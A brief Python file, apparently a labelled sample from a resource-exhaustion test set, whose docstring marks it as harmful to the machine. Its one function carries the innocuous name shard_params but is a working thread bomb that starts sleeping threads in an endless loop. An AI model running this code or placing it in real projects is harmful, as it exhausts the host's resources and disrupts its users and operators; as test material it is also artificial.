"""Starts threads without end; the number of processes and threads is limited.

group: exhausts
control: no: would harm the machine
"""

# %%
import threading
import time


# %% [shard_params]
def shard_params(params, axis_name, min_size):
    while True:
        threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
